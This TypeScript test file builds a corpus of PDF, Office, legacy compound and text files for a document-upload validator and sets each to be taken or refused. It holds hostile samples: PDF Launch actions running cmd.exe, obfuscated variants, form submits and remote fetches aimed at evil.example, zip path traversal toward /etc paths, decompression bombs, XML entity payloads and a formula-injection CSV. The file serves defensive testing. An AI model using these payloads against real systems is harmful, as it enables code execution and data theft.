import { type CorpusCase, either, refused, taken } from './case.ts'
import { makeOle } from './make-ole.ts'
import { makePdf, makePdfOf, packedStream } from './make-pdf.ts'
import { makeOffice, makeZip, type OfficeKind, type ZipPart } from './make-zip.ts'
import { damaged, seededBytes } from './seeded-bytes.ts'

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'

function pdfs(): CorpusCase[] {
  const sound = makePdf({ pages: 3 })
  const zip = makeZip([{ name: 'a', data: Buffer.from('b') }])
  const encrypted =
    '/Encrypt<</Filter/Standard/V 1/R 2/O<' +
    '11'.repeat(32) +
    '>/U<' +
    '22'.repeat(32) +
    '>/P -44>>/ID[<00><00>]'
  const launch = '/OpenAction<</S/Launch/F(cmd.exe)>>'
  const hidden = Buffer.from('10 0 <</S/Launch/F(calc.exe)>>')
  return [
    taken('pdf', 'a.pdf', makePdf(), 'pdf'),
    taken('pdf of 300 pages', 'a.pdf', makePdf({ pages: 300 }), 'pdf'),
    taken('pdf called jpg', 'a.jpg', sound, 'pdf'),
    taken('pdf with script', 'a.pdf', makePdf({ catalog: `/OpenAction ${script}` }), 'pdf'),
    refused('pdf of 301 pages', 'a.pdf', makePdf({ pages: 301 }), 'tooManyPages'),
    refused('pdf of 5,000 pages', 'a.pdf', makePdf({ pages: 5_000 }), 'tooManyPages'),
    refused(
      'pdf that says a million pages',
      'a.pdf',
      makePdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1000000>>']),
      ['tooManyPages', 'broken'],
    ),
    refused(
      'pdf whose pages are their own parent',
      'a.pdf',
      makePdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>']),
      ['broken', 'tooSlow'],
    ),
    refused('pdf without pages', 'a.pdf', makePdfOf(['<</Type/Catalog>>']), 'broken'),
    refused('pdf with a password', 'a.pdf', makePdf({ trailer: encrypted }), 'password'),
    refused('pdf that launches a program', 'a.pdf', makePdf({ catalog: launch }), 'activeContent'),
    ...[
      '/OpenAction<</S/L#61unch/F(cmd.exe)>>',
      '/OpenAction<</S%x\n/Launch/F(cmd.exe)>>',
      '/OpenAction<</S/SubmitForm/F(https://evil.example/)>>',
      '/OpenAction<</S/GoToR/F(\\\\evil.example\\a.pdf)>>',
    ].map((catalog) => refused(`pdf with ${catalog}`, 'a.pdf', makePdf({ catalog }), 'activeContent')),
    refused(
      'pdf that launches from a packed object',
      'a.pdf',
      makePdf({ more: [packedStream('/Type/ObjStm/N 1/First 5', hidden)] }),
      'activeContent',
    ),
    refused(
      'pdf with a packed object of 64 MB',
      'a.pdf',
      makePdf({ more: [packedStream('/Type/ObjStm/N 1/First 5', Buffer.alloc(67_000_000))] }),
      'unpacksTooLarge',
    ),
    taken(
      'pdf with a picture bomb that nobody draws',
      'a.pdf',
      makePdf({ more: [packedStream('/Type/XObject/Subtype/Image', Buffer.alloc(40_000_000))] }),
      'pdf',
    ),
    refused('pdf with a zip behind it', 'a.pdf', Buffer.concat([sound, zip]), ['mixed', 'broken']),
    refused(
      'pdf behind a line of html',
      'a.pdf',
      Buffer.concat([Buffer.from('<html>\n'), sound]),
      'unknownType',
    ),
    refused('pdf head alone', 'a.pdf', Buffer.from('%PDF-1.7\n'), 'broken'),
    refused(
      'pdf head and noise',
      'a.pdf',
      Buffer.concat([Buffer.from('%PDF-1.4\n'), seededBytes(20, 3_000), Buffer.from('\n%%EOF')]),
      'broken',
    ),
    ...[0.2, 0.4, 0.6, 0.8, 0.95].map((part) =>
      refused(
        `pdf cut at ${part * 100} %`,
        'cut.pdf',
        sound.subarray(0, Math.floor(sound.length * part)),
        'broken',
      ),
    ),
    ...Array.from({ length: 12 }, (_, seed) =>
      either(`pdf with damage ${seed}`, 'damaged.pdf', damaged(sound, seed + 50, 15, 9), 'pdf'),
    ),
  ]
}

function huge(megabytes: number): Buffer {
  return Buffer.alloc(megabytes * 1_048_576)
}

const parts: Readonly<Record<string, readonly [ZipPart, string | readonly string[]]>> = {
  'a bomb of 190 MB': [{ name: 'word/media/a.bin', data: huge(190) }, 'unpacksTooLarge'],
  'a bomb of 201 MB': [{ name: 'word/media/a.bin', data: huge(201) }, 'unpacksTooLarge'],
  'a part that says it unpacks to little': [
    { name: 'word/a.xml', data: huge(8), says: { unpacked: 100 } },
    'broken',
  ],
  'a part that says it unpacks to 4 GB': [
    { name: 'word/a.xml', data: huge(1), says: { unpacked: 0xfffffff0 } },
    'unpacksTooLarge',
  ],
  'a part with a wrong checksum': [
    { name: 'word/a.xml', data: Buffer.from('a'), says: { crc: 1 } },
    'broken',
  ],
  'a part with a password': [{ name: 'word/a.xml', data: Buffer.from('a'), isEncrypted: true }, 'password'],
  'a link': [{ name: 'word/link', data: Buffer.from('/etc/passwd'), isLink: true }, 'broken'],
  'a part above its folder': [{ name: '../../etc/cron.d/a', data: Buffer.from('a') }, 'broken'],
  'an absolute part': [{ name: '/etc/passwd', data: Buffer.from('a') }, 'broken'],
  'a part with backslashes': [{ name: '..\\..\\a', data: Buffer.from('a') }, 'broken'],
  'a zip inside': [
    { name: 'word/embeddings/a.zip', data: makeZip([{ name: 'a', data: Buffer.from('b') }]) },
    'unpacksTooLarge',
  ],
  'a jar inside': [{ name: 'word/a.jar', data: Buffer.from('a') }, 'unpacksTooLarge'],
  macros: [{ name: 'word/vbaProject.bin', data: seededBytes(30, 200) }, 'macros'],
  'a doctype': [
    { name: 'word/styles.xml', data: Buffer.from('<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://x/y">') },
    'activeContent',
  ],
  'an entity bomb': [
    { name: 'word/b.xml', data: Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]>') },
    'activeContent',
  ],
  'a doctype in 16 bits': [
    { name: 'word/c.xml', data: Buffer.from('\ufeff<!DOCTYPE a>', 'utf16le') },
    'activeContent',
  ],
}

function packages(): CorpusCase[] {
  const kinds: readonly OfficeKind[] = ['docx', 'xlsx', 'pptx']
  const hostile = Object.entries(parts).flatMap(([what, [part, cause]]) =>
    kinds.map((kind) =>
      refused(`${kind} with ${what}`, `a.${kind}`, makeOffice(kind, [part]), cause as never, 'F2'),
    ),
  )
  const many = Array.from({ length: 2_001 }, (_, index) => ({
    name: `word/${index}.xml`,
    data: Buffer.from('a'),
  }))
  const docx = makeOffice('docx')
  return [
    ...kinds.map((kind) => taken(kind, `a.${kind}`, makeOffice(kind), kind, 'F2')),
    taken('docx called pdf', 'a.pdf', docx, 'docx', 'F2'),
    taken(
      'xlsm',
      'a.xlsm',
      makeOffice('xlsm', [{ name: 'xl/vbaProject.bin', data: seededBytes(31, 90) }]),
      'xlsm',
      'F2',
    ),
    refused('xlsm where none is taken', 'a.xlsm', makeOffice('xlsm'), 'wrongType', 'F3'),
    refused('docm called docx', 'a.docx', makeOffice('docm'), 'macros', 'F2'),
    refused('docx where pictures are wanted', 'a.docx', docx, 'wrongType'),
    ...hostile,
    refused('docx of 2,001 parts', 'a.docx', makeOffice('docx', many), 'unpacksTooLarge', 'F2'),
    refused('plain zip', 'a.zip', makeZip([{ name: 'a.txt', data: Buffer.from('a') }]), 'unknownType', 'F2'),
    refused('empty zip', 'a.docx', makeZip([]), ['unknownType', 'broken'], 'F2'),
    refused(
      'zip head and noise',
      'a.docx',
      Buffer.concat([Buffer.from('PK\x03\x04'), seededBytes(32, 900)]),
      'broken',
      'F2',
    ),
    ...[0.3, 0.6, 0.9].map((part) =>
      refused(
        `docx cut at ${part * 100} %`,
        'cut.docx',
        docx.subarray(0, Math.floor(docx.length * part)),
        'broken',
        'F2',
      ),
    ),
    ...Array.from({ length: 12 }, (_, seed) =>
      either(`docx with damage ${seed}`, 'damaged.docx', damaged(docx, seed + 90, 12, 4), 'docx', 'F2'),
    ),
  ]
}

function legacy(): CorpusCase[] {
  const word = Buffer.alloc(600)
  const locked = Buffer.from(word)
  locked[0x0b] = 0x01
  const book = Buffer.from('0908080000060500bb0dcc07', 'hex')
  const lockedBook = Buffer.concat([book, Buffer.from('2f00060000000000', 'hex')])
  const doc = makeOle([{ name: 'WordDocument', data: word }])
  return [
    taken('doc', 'a.doc', doc, 'doc', 'F2'),
    taken('xls', 'a.xls', makeOle([{ name: 'Workbook', data: book }]), 'xls', 'F2'),
    taken('ppt', 'a.ppt', makeOle([{ name: 'PowerPoint Document', data: word }]), 'ppt', 'F2'),
    taken('msg', 'a.msg', makeOle([{ name: '__properties_version1.0', data: word }]), 'msg', 'F2'),
    refused(
      'doc with a password',
      'a.doc',
      makeOle([{ name: 'WordDocument', data: locked }]),
      'password',
      'F2',
    ),
    refused(
      'xls with a password',
      'a.xls',
      makeOle([{ name: 'Workbook', data: lockedBook }]),
      'password',
      'F2',
    ),
    refused(
      'docx with a password',
      'a.docx',
      makeOle([{ name: 'EncryptedPackage', data: word }]),
      'password',
      'F2',
    ),
    refused(
      'doc with macros',
      'a.doc',
      makeOle([
        { name: 'WordDocument', data: word },
        { name: 'Macros', isStorage: true },
      ]),
      'macros',
      'F2',
    ),
    refused(
      'xls with macros',
      'a.xls',
      makeOle([
        { name: 'Workbook', data: book },
        { name: '_VBA_PROJECT_CUR', isStorage: true },
      ]),
      'macros',
      'F2',
    ),
    refused(
      'msg where none is taken',
      'a.msg',
      makeOle([{ name: '__properties_version1.0', data: word }]),
      'wrongType',
      'F3',
    ),
    refused('compound file of nothing known', 'a.doc', makeOle([{ name: 'Something' }]), 'unknownType', 'F2'),
    refused('compound file that runs in circles', 'a.doc', circle(doc), ['broken', 'unknownType'], 'F2'),
    refused(
      'compound head and noise',
      'a.doc',
      Buffer.concat([doc.subarray(0, 8), seededBytes(40, 4_000)]),
      ['broken', 'unknownType'],
      'F2',
    ),
    ...[60, 511, 600, 900].map((length) =>
      refused(
        `doc cut after ${length} bytes`,
        'a.doc',
        doc.subarray(0, length),
        ['broken', 'unknownType'],
        'F2',
      ),
    ),
    ...Array.from({ length: 10 }, (_, seed) =>
      either(`doc with damage ${seed}`, 'a.doc', damaged(doc, seed + 130, 30, 8), 'doc', 'F2'),
    ),
  ]
}

function circle(doc: Buffer): Buffer {
  const copy = Buffer.from(doc)
  copy.writeUInt32LE(1, 512 + 4)
  return copy
}

function texts(): CorpusCase[] {
  const words = '第一行：开户申请\n第二行: application\n'
  return [
    taken('txt', 'a.txt', Buffer.from(words), 'txt', 'F2'),
    taken('txt of 16 bits', 'a.txt', Buffer.from(`\ufeff${words}`, 'utf16le'), 'txt', 'F2'),
    taken('txt in GB 18030', 'a.txt', Buffer.from('bfaabba7c9eac7eb', 'hex'), 'txt', 'F2'),
    taken('csv', 'a.csv', Buffer.from('a,b\n=cmd(),2\n'), 'csv', 'F2'),
    refused('csv where none is taken', 'a.csv', Buffer.from('a,b\n'), 'wrongType', 'F3'),
    refused('nothing', 'a.txt', Buffer.alloc(0), 'empty', 'F2'),
    refused('spaces alone', 'a.txt', Buffer.from(' \n\t\n'), 'empty', 'F2'),
    refused('text called jpg', 'a.jpg', Buffer.from(words), 'unknownType'),
    refused('text called exe', 'a.exe', Buffer.from(words), 'unknownType', 'F2'),
    refused('text without extension', 'readme', Buffer.from(words), 'unknownType', 'F2'),
    refused('text with a NUL', 'a.txt', Buffer.from('a\0b'), 'unknownType', 'F2'),
    refused('html called txt', 'a.txt', Buffer.from('<html><body>hello</body></html>'), 'unknownType', 'F2'),
    refused('script called txt', 'a.txt', Buffer.from('<script>alert(1)</script>'), 'unknownType', 'F2'),
    refused('noise called txt', 'a.txt', seededBytes(60, 500), 'unknownType', 'F2'),
    refused('batch of bytes called csv', 'a.csv', Buffer.from('ff00ff00ff00', 'hex'), 'unknownType', 'F2'),
  ]
}

/** PDFs, Office files old and new, texts, and what pretends to be one. */
export function documentCases(): CorpusCase[] {
  return [...pdfs(), ...packages(), ...legacy(), ...texts()]
}
